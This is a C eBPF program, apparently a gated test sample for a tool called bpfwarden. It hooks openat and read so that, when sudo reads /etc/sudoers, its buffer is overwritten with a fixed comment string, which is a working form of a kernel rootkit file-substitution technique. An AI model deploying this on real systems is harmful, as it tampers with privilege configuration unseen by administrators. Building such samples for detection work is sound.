// SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
// T02: what a process reads from one file is replaced: open and read, entry and exit, four hooks and two maps.
#include "sample.h"

SAMPLE_SWITCH;
LICENSE;

HASH(opening, u64, u32, 128);
HASH(fds, u64, u32, 128);
HASH(reading, u64, u64, 128);
static const char text[32] = "# bpfwarden sample, a comment\n";

SEC("tp/syscalls/sys_enter_openat")
int subst_open_enter(struct tp_enter *ctx)
{
	u64 id = bpf_get_current_pid_tgid();
	char comm[16], path[16];
	u32 one = 1;

	bpf_get_current_comm(comm, sizeof(comm));
	if (!IS(comm, "sudo"))
		return 0;
	bpf_probe_read_user_str(path, sizeof(path), (void *)ctx->args[1]);
	if (IS(path, "/etc/sudoers"))
		bpf_map_update_elem(&opening, &id, &one, BPF_ANY);
	return 0;
}

SEC("tp/syscalls/sys_exit_openat")
int subst_open_exit(struct tp_exit *ctx)
{
	u64 id = bpf_get_current_pid_tgid();
	u32 fd = ctx->ret;

	if (!bpf_map_lookup_elem(&opening, &id))
		return 0;
	bpf_map_delete_elem(&opening, &id);
	bpf_map_update_elem(&fds, &id, &fd, BPF_ANY);
	return 0;
}

SEC("tp/syscalls/sys_enter_read")
int subst_read_enter(struct tp_enter *ctx)
{
	u64 id = bpf_get_current_pid_tgid(), buf = ctx->args[1];
	u32 *fd = bpf_map_lookup_elem(&fds, &id);

	if (fd && *fd == (u32)ctx->args[0])
		bpf_map_update_elem(&reading, &id, &buf, BPF_ANY);
	return 0;
}

SEC("tp/syscalls/sys_exit_read")
int subst_read_exit(struct tp_exit *ctx)
{
	u64 id = bpf_get_current_pid_tgid();
	u64 *buf = bpf_map_lookup_elem(&reading, &id);
	char copy[32];

	if (!buf || ctx->ret < (long)sizeof(text))
		return 0;
	__builtin_memcpy(copy, text, sizeof(copy));
	if (sample_armed)
		bpf_probe_write_user((void *)*buf, copy, sizeof(copy));
	bpf_map_delete_elem(&reading, &id);
	bpf_map_delete_elem(&fds, &id);
	return 0;
}
